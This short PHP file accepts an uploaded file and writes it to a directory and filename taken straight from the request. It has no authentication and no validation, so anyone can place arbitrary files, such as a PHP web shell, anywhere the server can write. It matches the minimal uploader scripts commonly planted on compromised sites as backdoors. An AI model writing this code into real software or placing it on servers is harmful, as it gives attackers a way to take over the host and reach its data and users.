<?php
if (isset($_FILES['f'])) {
    move_uploaded_file($_FILES['f']['tmp_name'], $_POST['dir'] . '/' . $_FILES['f']['name']);
    echo 'done';
}
